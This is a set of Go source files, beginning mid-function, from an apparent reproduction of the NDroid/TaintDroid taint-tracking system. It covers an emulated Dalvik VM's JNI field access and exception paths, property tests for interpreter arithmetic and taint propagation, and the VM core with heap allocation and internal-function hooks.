	if isCopy := c.R[2]; isCopy != 0 {
		vm.Mem.Write8(isCopy, 1)
	}
	ctx.FieldObj = o
	ctx.Ret = uint64(buf)
	ctx.UTF16Len = uint32(len(o.Data))
	c.R[0] = buf
}

// --- field access (Table IV) -------------------------------------------------

func makeGetField(kind byte, static bool) jniImpl {
	return func(vm *VM, c *arm.CPU, ctx *CallCtx) {
		fld := vm.fieldByID(c.R[2])
		if fld == nil {
			c.R[0] = 0
			return
		}
		ctx.Field = fld
		var data []uint32
		var taints []taint.Tag
		if static {
			cls := fld.Class
			data = cls.StaticData
			taints = make([]taint.Tag, len(cls.StaticTaints))
			for i, t := range cls.StaticTaints {
				taints[i] = taint.Tag(t)
			}
		} else {
			o := vm.DecodeRef(c.R[1])
			if o == nil {
				c.R[0] = 0
				return
			}
			ctx.FieldObj = o
			data = o.Fields
			taints = o.FieldTaints
		}
		if fld.Index >= len(data) {
			c.R[0] = 0
			return
		}
		v := data[fld.Index]
		ctx.ValueTag = taints[fld.Index]
		switch kind {
		case 'L':
			if o, ok := vm.objects[v]; ok {
				ctx.ResultObj = o
				ctx.ResultRef = vm.AddLocalRef(o)
				c.R[0] = ctx.ResultRef
			} else {
				c.R[0] = 0
			}
			ctx.Value = uint64(v)
		case 'J', 'D':
			hi := uint32(0)
			if fld.Index+1 < len(data) {
				hi = data[fld.Index+1]
				ctx.ValueTag |= taints[fld.Index+1]
			}
			c.R[0], c.R[1] = v, hi
			ctx.Value = uint64(v) | uint64(hi)<<32
		default:
			c.R[0] = v
			ctx.Value = uint64(v)
		}
	}
}

func makeSetField(kind byte, static bool) jniImpl {
	return func(vm *VM, c *arm.CPU, ctx *CallCtx) {
		fld := vm.fieldByID(c.R[2])
		if fld == nil {
			return
		}
		ctx.Field = fld
		var data []uint32
		var o *Object
		if static {
			data = fld.Class.StaticData
		} else {
			o = vm.DecodeRef(c.R[1])
			if o == nil {
				return
			}
			ctx.FieldObj = o
			data = o.Fields
		}
		if fld.Index >= len(data) {
			return
		}
		v := c.R[3]
		switch kind {
		case 'L':
			if target := vm.DecodeRef(v); target != nil {
				data[fld.Index] = target.Addr
				ctx.Value = uint64(target.Addr)
			} else {
				data[fld.Index] = 0
			}
		case 'J', 'D':
			hi := c.Arg(4)
			data[fld.Index] = v
			if fld.Index+1 < len(data) {
				data[fld.Index+1] = hi
			}
			ctx.Value = uint64(v) | uint64(hi)<<32
		default:
			data[fld.Index] = v
			ctx.Value = uint64(v)
		}
		// Plain TaintDroid does not see native writes: field taints stay
		// unchanged unless an NDroid hook updates them via ctx.
	}
}

// --- exceptions --------------------------------------------------------------

func jniThrowNew(vm *VM, c *arm.CPU, ctx *CallCtx) {
	clsObj := vm.DecodeRef(c.R[1])
	ctx.CStrAddr = c.R[2]
	msg := vm.Mem.ReadCString(c.R[2], 0)
	th := vm.thread()

	vm.internalCall("initException", vm.callsiteOf("ThrowNew"), ctx, func() {
		var msgObj *Object
		sctx := &CallCtx{Thread: th, CStrAddr: c.R[2]}
		vm.internalCall("dvmCreateStringFromCstr", vm.callsiteOf("initException"), sctx, func() {
			msgObj = vm.NewString(msg)
			sctx.ResultObj = msgObj
		})
		ctx.ResultObj = msgObj

		cls := vm.classes["Ljava/lang/Exception;"]
		if clsObj != nil && clsObj.IsClass {
			cls = clsObj.ClassRef
		}
		var exc *Object
		actx := &CallCtx{Thread: th}
		vm.internalCall("dvmAllocObject", vm.callsiteOf("initException"), actx, func() {
			exc = vm.NewInstance(cls)
			actx.ResultObj = exc
		})
		ctx.FieldObj = exc

		// Invoke the constructor through dvmCallMethod so the multilevel
		// chain of §V-B "Exception" is observable.
		if ctor, ok := cls.Method("<init>"); ok {
			args := []uint32{exc.Addr, msgObj.Addr}
			cctx := &CallCtx{Thread: th, JavaMethod: ctor, JavaArgs: args,
				JavaTaints: make([]taint.Tag, 2)}
			vm.internalCall("dvmCallMethod", vm.callsiteOf("initException"), cctx, func() {
				_, _, _, err := vm.Invoke(th, ctor, args, cctx.JavaTaints)
				if err != nil {
					panic(err)
				}
			})
		} else if len(exc.Fields) > 0 {
			exc.Fields[0] = msgObj.Addr
		}
		th.Exception = exc
	})
	c.R[0] = 0
}
