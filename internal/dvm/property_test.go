package dvm

import (
	"math"
	"testing"
	"testing/quick"

	"repro/internal/dex"
	"repro/internal/taint"
)

// TestInterpreterArithmeticMatchesGo is a property test: for random operand
// pairs, every Dalvik integer binop computed by the interpreter equals the
// Go-native result.
func TestInterpreterArithmeticMatchesGo(t *testing.T) {
	vm := newVM(t)
	ops := []dex.Arith{dex.Add, dex.Sub, dex.Mul, dex.And, dex.Or, dex.Xor, dex.Shl, dex.Shr, dex.Ushr}
	for i, op := range ops {
		cb := dex.NewClass("Lcom/prop/C" + string(rune('0'+i)) + ";")
		cb.Method("f", "III", dex.AccStatic, 1).
			Bin(op, 0, 1, 2).
			Return(0).
			Done()
		vm.RegisterClass(cb.Build())
	}
	ref := func(op dex.Arith, a, b int32) int32 {
		switch op {
		case dex.Add:
			return a + b
		case dex.Sub:
			return a - b
		case dex.Mul:
			return a * b
		case dex.And:
			return a & b
		case dex.Or:
			return a | b
		case dex.Xor:
			return a ^ b
		case dex.Shl:
			return a << (uint32(b) & 31)
		case dex.Shr:
			return a >> (uint32(b) & 31)
		case dex.Ushr:
			return int32(uint32(a) >> (uint32(b) & 31))
		}
		return 0
	}
	f := func(a, b int32, sel uint8) bool {
		i := int(sel) % len(ops)
		cls := "Lcom/prop/C" + string(rune('0'+i)) + ";"
		ret, _, thrown, err := vm.InvokeByName(cls, "f", []uint32{uint32(a), uint32(b)}, nil)
		if err != nil || thrown != nil {
			return false
		}
		return int32(ret) == ref(ops[i], a, b)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 400}); err != nil {
		t.Fatal(err)
	}
}

// TestInterpreterDoubleMatchesGo: double arithmetic on register pairs.
func TestInterpreterDoubleMatchesGo(t *testing.T) {
	vm := newVM(t)
	cb := dex.NewClass("Lcom/prop/D;")
	cb.Method("mul", "DDD", dex.AccStatic, 0).
		BinDouble(dex.Mul, 0, 0, 2).
		ReturnWide(0).
		Done()
	vm.RegisterClass(cb.Build())
	f := func(a, b float64) bool {
		if math.IsNaN(a) || math.IsNaN(b) {
			return true
		}
		ab, bb := math.Float64bits(a), math.Float64bits(b)
		ret, _, thrown, err := vm.InvokeByName("Lcom/prop/D;", "mul",
			[]uint32{uint32(ab), uint32(ab >> 32), uint32(bb), uint32(bb >> 32)}, nil)
		if err != nil || thrown != nil {
			return false
		}
		got := math.Float64frombits(ret)
		want := a * b
		return got == want || (math.IsNaN(got) && math.IsNaN(want))
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 200}); err != nil {
		t.Fatal(err)
	}
}

// TestTaintNeverInventedFromCleanInputs is a whole-pipeline property: running
// arbitrary arithmetic over untainted inputs never produces a tainted result.
func TestTaintNeverInventedFromCleanInputs(t *testing.T) {
	vm := newVM(t)
	cb := dex.NewClass("Lcom/prop/Clean;")
	cb.Method("mix", "IIII", dex.AccStatic, 2).
		Bin(dex.Add, 0, 2, 3).
		Bin(dex.Xor, 1, 0, 4).
		BinLit(dex.Mul, 0, 1, 31).
		Return(0).
		Done()
	vm.RegisterClass(cb.Build())
	f := func(a, b, c int32) bool {
		_, rt, thrown, err := vm.InvokeByName("Lcom/prop/Clean;", "mix",
			[]uint32{uint32(a), uint32(b), uint32(c)}, nil)
		return err == nil && thrown == nil && rt == 0
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Fatal(err)
	}
}

// TestTaintAlwaysReachesResultThroughDataFlow: the dual property — any single
// tainted input to the same dataflow taints the result.
func TestTaintAlwaysReachesResultThroughDataFlow(t *testing.T) {
	vm := newVM(t)
	cb := dex.NewClass("Lcom/prop/Flow;")
	cb.Method("mix", "IIII", dex.AccStatic, 2).
		Bin(dex.Add, 0, 2, 3).
		Bin(dex.Xor, 1, 0, 4).
		Return(1).
		Done()
	vm.RegisterClass(cb.Build())
	f := func(a, b, c int32, which uint8) bool {
		taints := make([]taint.Tag, 3)
		taints[int(which)%3] = taint.IMEI
		_, rt, thrown, err := vm.InvokeByName("Lcom/prop/Flow;", "mix",
			[]uint32{uint32(a), uint32(b), uint32(c)}, taints)
		return err == nil && thrown == nil && rt.Has(taint.IMEI)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Fatal(err)
	}
}
