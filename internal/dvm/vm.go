// Package dvm implements the Dalvik virtual machine substrate with
// TaintDroid's modifications: interpreter stack frames holding taint tags
// interleaved with register values in guest memory (paper Fig. 1), taint
// storage on string/array objects and field slots (§II-B), the naive JNI
// taint policy (return tainted iff any parameter tainted), an indirect
// reference table kept current by a moving garbage collector (§II-A), the JNI
// call bridge (dvmCallJNIMethod), and the JNIEnv function table exposed to
// emulated native code.
//
// Every libdvm-internal function NDroid hooks in the paper (dvmCallJNIMethod,
// dvmCallMethod*, dvmInterpret, dvmCreateStringFromCstr, dvmAllocObject, ...)
// has a guest address inside an emulated libdvm.so region and fires
// before/after hooks plus branch events when "called", so the DVM Hook Engine
// and the multilevel hooking state machine (Fig. 5) observe the same call
// chains they would on the real system.
package dvm

import (
	"fmt"
	"sort"

	"repro/internal/arm"
	"repro/internal/dex"
	"repro/internal/fault"
	"repro/internal/kernel"
	"repro/internal/libc"
	"repro/internal/mem"
	"repro/internal/taint"
)

// Object is a heap object: a class instance, string, array, or class handle.
type Object struct {
	Addr  uint32 // current direct pointer; changes when the GC moves it
	Class *dex.Class

	Fields      []uint32
	FieldTaints []taint.Tag

	IsString bool
	Str      string

	IsArray   bool
	ElemKind  byte // shorty char
	ElemWidth uint32
	Len       int
	Data      []byte // little-endian elements

	IsClass  bool
	ClassRef *dex.Class

	// Taint is the object-level tag TaintDroid keeps for strings and arrays.
	Taint taint.Tag
}

// Ref kinds for indirect references (Android's IndirectRefKind).
const (
	refKindLocal  = 1
	refKindGlobal = 2
)

// objHeaderMagic marks object headers in guest memory.
const objHeaderMagic = 0x0b7ec70b

// JavaLeak reports tainted data reaching a Java-context sink.
type JavaLeak struct {
	Sink string
	Dest string
	Data string
	Tag  taint.Tag
}

// Builtin is a framework method implemented by the host. args includes the
// receiver for instance methods.
type Builtin func(vm *VM, th *Thread, args []uint32, taints []taint.Tag) (ret uint64, retTaint taint.Tag, thrown *Object)

// CallCtx is the context handed to internal-function hooks. Fields are
// populated according to which function is being hooked.
type CallCtx struct {
	VM     *VM
	Name   string
	Thread *Thread

	// JNI call bridge (dvmCallJNIMethod):
	Method    *dex.Method
	CPUArgs   []uint32    // AAPCS argument words (env, this/class, args...)
	ArgTaints []taint.Tag // taints aligned with CPUArgs
	ArgObjs   []*Object   // object per CPUArg position (nil for prims)

	// Native-to-Java calls (dvmCallMethod*/dvmInterpret):
	JavaMethod  *dex.Method
	JavaArgs    []uint32    // decoded argument words
	JavaArgRefs []uint32    // pre-decode indirect refs (0 for prims)
	JavaArgSrc  []ArgSrc    // native-context source of each argument word
	JavaTaints  []taint.Tag // mutable: hooks may taint arguments
	FrameAddr   uint32      // guest FP of the new frame (dvmInterpret)

	// Object/string creation:
	CStrAddr  uint32 // source C string for NewStringUTF
	UTF16Addr uint32 // source buffer for NewString
	UTF16Len  uint32
	ResultObj *Object
	ResultRef uint32

	// Field access:
	FieldObj *Object
	Field    *dex.Field
	Value    uint64
	ValueTag taint.Tag

	// Return-taint override (set by After hooks; JNI entry path).
	RetTaint    taint.Tag
	RetOverride bool

	// Raw return value for JNI exit paths.
	Ret uint64
}

// ArgSrc records where an argument word lived in the native context, so
// NDroid's shadow registers and shadow memory can be consulted (§V-B "JNI
// Exit": "NDroid creates shadow registers and memory to save the taints in
// the native context and refers to them when the taints are propagated to
// the Java context").
type ArgSrc struct {
	Reg  int    // AAPCS register index, or -1 when the word came from memory
	Addr uint32 // guest address for stack/va_list/jvalue words
}

// InternalHook observes one internal function.
type InternalHook struct {
	Before func(*CallCtx)
	After  func(*CallCtx)

	// BindJNI, when non-nil on a dvmCallJNIMethod hook, lets the hook owner
	// specialize its Before/After bodies for one resolved method at fusion
	// bind time (precomputed log lines, reusable policies, one-time entry-hook
	// installation). Returning ok=false keeps the generic Before/After. Hook
	// mutations bump the translation epoch, so stale bindings die with their
	// chain.
	BindJNI func(m *dex.Method) (before, after func(*CallCtx), ok bool)
}

// VM is the Dalvik virtual machine instance.
type VM struct {
	Mem  *mem.Memory
	CPU  *arm.CPU
	Kern *kernel.Kernel
	Task *kernel.Task
	Libc *libc.Libc

	classes map[string]*dex.Class

	objects    map[uint32]*Object
	heapCursor uint32
	allocCount int
	// GCThreshold triggers a collection every N allocations (0 disables).
	GCThreshold int
	GCCount     int
	// OnGCMove is invoked for every object relocation (old, new address);
	// NDroid's taint engine subscribes to keep its maps coherent.
	OnGCMove func(old, new uint32, o *Object)

	irt       map[uint32]*Object
	nextLocal uint32
	nextGlob  uint32
	locals    [][]uint32 // per-JNI-call local ref frames

	methodIDs []*dex.Method
	fieldIDs  []*dex.Field

	internalAddrs map[string]uint32
	internalNames map[uint32]string
	hooks         map[string][]InternalHook
	libdvmEnd     uint32

	// TaintJava enables TaintDroid's in-DVM propagation. Off = stock Android.
	TaintJava bool
	// GateJava enables the demand-driven fast path: while no taint has ever
	// been introduced on the Java side (taintSeen latch off), the interpreter
	// skips tag merging and the JNI bridge skips taint marshalling. Sound
	// because all Java-side taint state is provably zero until the first
	// NoteTaint — frames are pushed with zeroed slots, and every skipped
	// write would have written zero.
	GateJava bool
	// Live, when attached, receives the SrcJava contribution of the latch.
	Live *taint.Liveness
	// taintSeen latches up on the first nonzero tag entering the Java world
	// and is released only by ResetTaintLatch (conservative but sound).
	taintSeen bool
	// InterpretHookAll fires the dvmInterpret hooks on *every* interpreted
	// invocation, not just native-originated ones — the costly baseline that
	// multilevel hooking exists to avoid (§V-B: "the overhead will be high
	// if we hook these two functions whenever they are called").
	InterpretHookAll bool
	// javaStepFn observes every interpreted instruction (profiling and the
	// DroidScope semantic-reconstruction cost model). Install via
	// SetJavaStepFn: the setter bumps the translation epoch so compiled
	// methods (which hoist the per-instruction nil check) are invalidated.
	javaStepFn func(th *Thread, m *dex.Method, pc int, insn *dex.Insn)
	// JavaLeakFn receives Java-context sink reports (TaintDroid sinks).
	JavaLeakFn func(JavaLeak)

	// NoJavaTranslate disables the method-granular translation engine and
	// forces the per-instruction switch interpreter — the ablation knob for
	// the Java rows of Fig. 10 and the reference side of parity tests.
	NoJavaTranslate bool
	// transEpoch is the Java translation epoch. Compiled methods record the
	// epoch they were built under and are retranslated on mismatch; anything
	// that changes what a translated step would have to observe per
	// instruction or per resolution (step functions, internal hooks, class
	// registration) bumps it — the DVM analog of the ARM engine's
	// tracer-epoch check.
	transEpoch uint64

	// NativeBudget bounds the instruction count of each JNI native call
	// (0 = the 64M default). JavaBudget is an absolute ceiling on
	// JavaInsnCount for the whole run (0 = unlimited). Both are deterministic
	// step counts, never wall-clock: the analyzer's watchdog sets them so
	// runaway guest loops surface as BudgetExceeded faults (Timeout verdict)
	// at reproducible points.
	NativeBudget uint64
	JavaBudget   uint64

	// JavaInsnCount counts interpreted Dalvik instructions.
	JavaInsnCount uint64
	// JavaTransMethods counts method translations (first invocations plus
	// epoch retranslations).
	JavaTransMethods uint64
	// JavaCleanFrames / JavaTaintFrames count translated frame entries that
	// selected the clean (gate fast path) / tainting variant.
	JavaCleanFrames uint64
	JavaTaintFrames uint64
	// JavaGateBails counts mid-method clean→tainting switches (the latch
	// flipped inside a clean run).
	JavaGateBails uint64
	// JavaDeopts counts mid-method falls back to the interpreter after an
	// epoch bump (a hook or step function appeared under a running frame).
	JavaDeopts uint64
	// JavaPinnedFrames counts translated frame entries that took the clean
	// variant because the method was statically pinned (internal/static),
	// skipping the gate check entirely.
	JavaPinnedFrames uint64

	// FuseNative enables cross-boundary trace fusion: hot monomorphic
	// Dalvik→JNI→ARM chains are compiled into specialized host closures with
	// the per-call bridge work (shorty decoding, hook dispatch setup, full
	// CPU snapshot/restore, class-object lookup) hoisted to bind time.
	FuseNative bool
	// JNICrossings counts Java→native JNI calls (fused and unfused).
	JNICrossings uint64
	// JavaFusedChains counts fused-chain builds; JavaFusedCalls counts
	// crossings served by a fused chain; JavaFuseDeopts counts chains
	// invalidated back to the unfused bridge (epoch mismatch, re-registration,
	// SMC, or an injected fused-deopt fault).
	JavaFusedChains uint64
	JavaFusedCalls  uint64
	JavaFuseDeopts  uint64
	// OnRegisterNatives observes mid-run native-method re-registration
	// (JNIEnv->RegisterNatives rebinding a bound method to a new entry point).
	OnRegisterNatives func(m *dex.Method, old, new uint32)
	// OnJNICall observes every Java->native crossing at the top of the JNI
	// bridge, before the fused/unfused split, so both paths report
	// identically. OnNativeBind observes every native-method binding:
	// dynamic=true for guest RegisterNatives (all of them, not just rebinds),
	// false for loader-time BindNative. OnReflectCall observes native->Java
	// reflection-style dispatch (CallStatic*Method resolving a jmethodID).
	// All three feed the JNI surface observer and must stay off the flow log.
	OnJNICall     func(m *dex.Method)
	OnNativeBind  func(m *dex.Method, old, new uint32, dynamic bool)
	OnReflectCall func(m *dex.Method)

	// fused maps resolved methods to their compiled chains; fuseHeat counts
	// unfused crossings per method toward the fusion threshold; fuseSeeds
	// marks methods the static pre-analysis nominated for eager fusion. All
	// three are keyed by method pointer and cleared on snapshot restore.
	fused     map[*dex.Method]*fusedChain
	fuseHeat  map[*dex.Method]uint32
	fuseSeeds map[*dex.Method]bool
	// marshalPlans memoizes per-method shorty decoding for both bridge paths.
	marshalPlans map[*dex.Method]*marshalPlan
	// jniScratchPool recycles the argument/taint/object slices of the JNI
	// bridge; savedCPUStack recycles register-snapshot buffers by pad depth.
	jniScratchPool []*jniScratch
	savedCPUStack  []*savedCPU

	// pinnedClean holds methods the static pre-analysis proved can never
	// observe tainted data: translated frames for them always run the clean
	// variant and skip the taintSeen gate and its mid-frame bail checks.
	// Keyed by method pointer, so a fresh System (fresh dex tree) never
	// inherits stale pins — degradation retries must re-run the analysis.
	pinnedClean map[*dex.Method]bool

	// sourceMethods / sinkMethods index the framework taint sources and
	// sinks by full name ("Landroid/...;.name") for the static
	// taint-reachability pass.
	sourceMethods map[string]bool
	sinkMethods   map[string]bool

	// internedStrings interns one string object per const-string site, so
	// loops stop allocating; entries are GC roots (interpreter and compiled
	// code hold them across collections).
	internedStrings map[*dex.Insn]*Object

	// framePool recycles Frame structs; scratchPool recycles the arg/taint
	// word slices of the interpreted invoke path, keyed by register count.
	framePool   []*Frame
	scratchPool [maxPooledArgs + 1][]invokeScratch

	MainThread *Thread
	threads    []*Thread
	curThread  *Thread

	padDepth    int
	loadedLibs  []string
	nativeLibs  []LoadedLib
	nextLibBase uint32

	// asmMemo caches assembled native-lib images by (source, base); it is
	// content-addressed warm state, deliberately outside VMSnapshot. asmCache,
	// when set, extends the memo across VMs (and processes) through the
	// persistent artifact store. AsmAssembles counts real assembler runs;
	// AsmCacheHits counts images served by asmCache.
	asmMemo  map[asmKey]*arm.Program
	asmCache AsmCache

	AsmAssembles uint64
	AsmCacheHits uint64
}

// internalFuncs lists every hookable libdvm-internal function, in a fixed
// order so addresses are deterministic.
var internalFuncs = []string{
	"dvmCallJNIMethod",
	"dvmCallMethod",
	"dvmCallMethodV",
	"dvmCallMethodA",
	"dvmInterpret",
	"dvmCreateStringFromCstr",
	"dvmCreateStringFromUnicode",
	"dvmAllocObject",
	"dvmAllocArrayByClass",
	"dvmAllocPrimitiveArray",
	"dvmDecodeIndirectRef",
	"initException",
}

// New creates a VM wired to the given CPU, kernel task, and libc.
func New(m *mem.Memory, c *arm.CPU, k *kernel.Kernel, t *kernel.Task, lc *libc.Libc) *VM {
	vm := &VM{
		Mem:           m,
		CPU:           c,
		Kern:          k,
		Task:          t,
		Libc:          lc,
		classes:       make(map[string]*dex.Class),
		objects:       make(map[uint32]*Object),
		heapCursor:    kernel.DvmHeapBase,
		irt:           make(map[uint32]*Object),
		nextLocal:     1,
		nextGlob:      1,
		internalAddrs: make(map[string]uint32),
		internalNames: make(map[uint32]string),
		hooks:         make(map[string][]InternalHook),

		internedStrings: make(map[*dex.Insn]*Object),
	}

	// Assign libdvm addresses: 16 bytes per internal function.
	cursor := kernel.LibdvmBase
	for _, name := range internalFuncs {
		vm.internalAddrs[name] = cursor
		vm.internalNames[cursor] = name
		cursor += 16
	}
	vm.installJNIEnv(cursor)

	vm.MainThread = vm.NewThread("main")
	registerFramework(vm)
	return vm
}

// AttachLiveness wires the VM's Java-side taint latch into the process-wide
// liveness aggregate.
func (vm *VM) AttachLiveness(l *taint.Liveness) {
	vm.Live = l
	if vm.taintSeen {
		l.Adjust(taint.SrcJava, 1)
	}
}

// NoteTaint records that a nonzero tag became observable in the Java world
// (builtin source return, JNI return taint, argument taint, hook write).
// Every code path that can make Java-side taint state nonzero funnels
// through a NoteTaint call, which is what makes the GateJava fast path
// sound: while the latch is off, all frame slots, object tags, and field
// tags are zero.
func (vm *VM) NoteTaint(t taint.Tag) {
	if t == 0 || vm.taintSeen {
		return
	}
	vm.taintSeen = true
	if vm.Live != nil {
		vm.Live.Adjust(taint.SrcJava, 1)
	}
}

// TaintSeen reports whether the Java-side latch has fired.
func (vm *VM) TaintSeen() bool { return vm.taintSeen }

// ResetTaintLatch releases the latch between analysis runs. The caller must
// guarantee all Java-side taint state has actually been discarded.
func (vm *VM) ResetTaintLatch() {
	if !vm.taintSeen {
		return
	}
	vm.taintSeen = false
	if vm.Live != nil {
		vm.Live.Adjust(taint.SrcJava, -1)
	}
}

// tainting reports whether the interpreter must run taint propagation for
// the current instruction: TaintJava is on and either the gate is disabled
// or some taint has already entered the Java world.
func (vm *VM) tainting() bool {
	return vm.TaintJava && (vm.taintSeen || !vm.GateJava)
}

// PinClean marks a method as statically proven taint-irrelevant: its
// translated frames always run the clean variant without consulting the
// taintSeen gate. The caller (internal/static via core) owns the soundness
// argument; pins are keyed by method pointer so they die with the System
// that was analyzed.
func (vm *VM) PinClean(m *dex.Method) {
	if vm.pinnedClean == nil {
		vm.pinnedClean = make(map[*dex.Method]bool)
	}
	vm.pinnedClean[m] = true
}

// PinnedCleanCount reports how many methods carry a static clean pin.
func (vm *VM) PinnedCleanCount() int { return len(vm.pinnedClean) }

// UnpinClean discards every static clean pin and reports how many were
// dropped. The analyzer calls it when a dynamic RegisterNatives swap voids
// the binding the static pass analyzed: pinned methods fall back to the
// ordinary taintSeen gate, which is always sound — a dropped pin costs
// speed, never a missed flow. Translated frames consult the pin set on
// entry, so no retranslation is needed.
func (vm *VM) UnpinClean() int {
	n := len(vm.pinnedClean)
	vm.pinnedClean = nil
	return n
}

// SeedFusion nominates a native method for eager trace fusion: the first
// crossing builds its chain instead of waiting out the heat threshold. Seeds
// come from the static pre-analysis (reachable crossing nodes in the
// cross-ISA call graph); a wrong seed costs one premature build, never
// soundness. Keyed by method pointer, like clean pins.
func (vm *VM) SeedFusion(m *dex.Method) {
	if vm.fuseSeeds == nil {
		vm.fuseSeeds = make(map[*dex.Method]bool)
	}
	vm.fuseSeeds[m] = true
}

// FusionSeedCount reports how many methods carry a static fusion seed.
func (vm *VM) FusionSeedCount() int { return len(vm.fuseSeeds) }

// markSource records a framework taint-source builtin (registration time).
func (vm *VM) markSource(full string) {
	if vm.sourceMethods == nil {
		vm.sourceMethods = make(map[string]bool)
	}
	vm.sourceMethods[full] = true
}

// markSink records a framework sink builtin (registration time).
func (vm *VM) markSink(full string) {
	if vm.sinkMethods == nil {
		vm.sinkMethods = make(map[string]bool)
	}
	vm.sinkMethods[full] = true
}

// IsSourceMethod reports whether the full name ("Lcls;.name") is a
// registered framework taint source.
func (vm *VM) IsSourceMethod(full string) bool { return vm.sourceMethods[full] }

// IsSinkMethod reports whether the full name is a registered framework sink.
func (vm *VM) IsSinkMethod(full string) bool { return vm.sinkMethods[full] }

// NewThread allocates an interpreter thread with a guest stack region.
func (vm *VM) NewThread(name string) *Thread {
	const stackSize = 1 << 20
	idx := uint32(0)
	if vm.MainThread != nil {
		idx = 1 // only two threads are ever used in the evaluation
	}
	base := kernel.DvmStackBase + idx*stackSize
	th := &Thread{
		VM:        vm,
		Name:      name,
		StackBase: base,
		StackTop:  base + stackSize,
		cur:       base + stackSize,
	}
	vm.threads = append(vm.threads, th)
	return th
}

// RegisterClass adds a class to the VM. Translated methods bake class and
// method resolutions in, so registration starts a new translation epoch.
func (vm *VM) RegisterClass(c *dex.Class) {
	vm.classes[c.Name] = c
	vm.transEpoch++
}

// Class looks up a registered class.
func (vm *VM) Class(name string) (*dex.Class, bool) {
	c, ok := vm.classes[name]
	return c, ok
}

// Classes returns all registered class names, sorted.
func (vm *VM) Classes() []string {
	out := make([]string, 0, len(vm.classes))
	for n := range vm.classes {
		out = append(out, n)
	}
	sort.Strings(out)
	return out
}

// LoadedLibs reports libraries loaded via System.loadLibrary.
func (vm *VM) LoadedLibs() []string { return vm.loadedLibs }

// HookInternal registers a hook on a libdvm-internal or JNI function and
// invalidates compiled methods (via the epoch) so running frames observe the
// hook before their next instruction.
func (vm *VM) HookInternal(name string, h InternalHook) {
	vm.hooks[name] = append(vm.hooks[name], h)
	vm.transEpoch++
}

// ClearInternalHooks removes all hooks (between analysis runs).
func (vm *VM) ClearInternalHooks() {
	vm.hooks = make(map[string][]InternalHook)
	vm.transEpoch++
}

// SetJavaStepFn installs (or, with nil, clears) the per-instruction observer.
// The translated fast path hoists the nil check out of the hot loop, so the
// setter starts a new translation epoch; a running translated frame deopts to
// the interpreter at its next post-call check, before the next instruction of
// any frame entered afterwards.
func (vm *VM) SetJavaStepFn(fn func(th *Thread, m *dex.Method, pc int, insn *dex.Insn)) {
	vm.javaStepFn = fn
	vm.transEpoch++
}

// TransEpoch reports the current Java translation epoch (test hook).
func (vm *VM) TransEpoch() uint64 { return vm.transEpoch }

// --- frame and invoke-scratch pooling ------------------------------------

// maxPooledArgs bounds the per-count freelists for invoke argument slices;
// calls with more words fall back to plain allocation.
const maxPooledArgs = 16

// invokeScratch is one pooled pair of invoke argument arrays.
type invokeScratch struct {
	args   []uint32
	taints []taint.Tag
}

func (vm *VM) getFrame() *Frame {
	if n := len(vm.framePool); n > 0 {
		f := vm.framePool[n-1]
		vm.framePool = vm.framePool[:n-1]
		return f
	}
	return &Frame{}
}

func (vm *VM) putFrame(f *Frame) {
	f.Method = nil
	f.win = nil
	f.thrown = nil
	f.terr = nil
	vm.framePool = append(vm.framePool, f)
}

// getScratch hands out zeroed arg/taint slices of length n. Release with
// putScratch once the invoke has returned; pushFrame copies the words into
// guest memory, so nothing retains the slices past the call.
func (vm *VM) getScratch(n int) ([]uint32, []taint.Tag) {
	if n <= maxPooledArgs {
		if l := len(vm.scratchPool[n]); l > 0 {
			s := vm.scratchPool[n][l-1]
			vm.scratchPool[n] = vm.scratchPool[n][:l-1]
			for i := range s.taints {
				s.taints[i] = 0
			}
			return s.args, s.taints
		}
	}
	return make([]uint32, n), make([]taint.Tag, n)
}

func (vm *VM) putScratch(args []uint32, taints []taint.Tag) {
	n := len(args)
	if n > maxPooledArgs || len(taints) != n {
		return
	}
	vm.scratchPool[n] = append(vm.scratchPool[n], invokeScratch{args: args, taints: taints})
}

// internString returns the per-site interned string object for a const-string
// instruction, allocating it on first execution. Interned objects are GC
// roots (see RunGC) — the moving collector updates their addresses in place.
func (vm *VM) internString(insn *dex.Insn) *Object {
	if o, ok := vm.internedStrings[insn]; ok {
		return o
	}
	o := vm.NewString(insn.Str)
	vm.internedStrings[insn] = o
	return o
}

// InternalAddr returns the guest address of an internal/JNI function.
func (vm *VM) InternalAddr(name string) uint32 { return vm.internalAddrs[name] }

// InternalName resolves a libdvm address back to its function name.
func (vm *VM) InternalName(addr uint32) (string, bool) {
	n, ok := vm.internalNames[addr]
	return n, ok
}

// callsiteOf returns the synthetic call-site address inside an internal
// function (the "A"/"B"/"C" addresses of Fig. 5).
func (vm *VM) callsiteOf(name string) uint32 { return vm.internalAddrs[name] + 8 }

// internalCall emits the branch events and hook invocations for a call into
// an internal function. from is the caller's call-site address; body performs
// the actual work.
func (vm *VM) internalCall(name string, from uint32, ctx *CallCtx, body func()) {
	entry := vm.internalAddrs[name]
	ctx.VM = vm
	ctx.Name = name
	vm.CPU.EmitBranch(from, entry)
	for _, h := range vm.hooks[name] {
		if h.Before != nil {
			h.Before(ctx)
		}
	}
	body()
	for _, h := range vm.hooks[name] {
		if h.After != nil {
			h.After(ctx)
		}
	}
	vm.CPU.EmitBranch(entry+4, from+4)
}

// --- heap ---------------------------------------------------------------

func (vm *VM) allocAddr(payload uint32) uint32 {
	// Allocation has no error return (it is called from deep inside the
	// interpreter, builtins, and JNI marshalling), so faults here — organic
	// heap exhaustion or an injected one — travel as panics carrying a typed
	// fault; the InvokeByName containment boundary converts them back.
	if f := fault.Hit(SiteHeapAlloc, 0); f != nil {
		panic(f)
	}
	vm.allocCount++
	if vm.GCThreshold > 0 && vm.allocCount >= vm.GCThreshold {
		vm.allocCount = 0
		vm.RunGC()
	}
	size := objFootprint(payload)
	addr := vm.heapCursor
	if addr+size >= kernel.DvmHeapLimit {
		vm.RunGC()
		addr = vm.heapCursor
		if addr+size >= kernel.DvmHeapLimit {
			// An allocation-hungry guest exhausting the fixed heap window is a
			// resource-budget condition, same verdict class as a loop budget.
			panic(vm.faultf(fault.BudgetExceeded, nil, "heap exhausted (%d-byte allocation)", size))
		}
	}
	vm.heapCursor += size
	return addr
}

func objFootprint(payload uint32) uint32 { return (16 + payload + 7) &^ 7 }

func (o *Object) payloadSize() uint32 {
	switch {
	case o.IsString:
		return uint32(len(o.Str))
	case o.IsArray:
		return uint32(len(o.Data))
	case o.IsClass:
		return 0
	default:
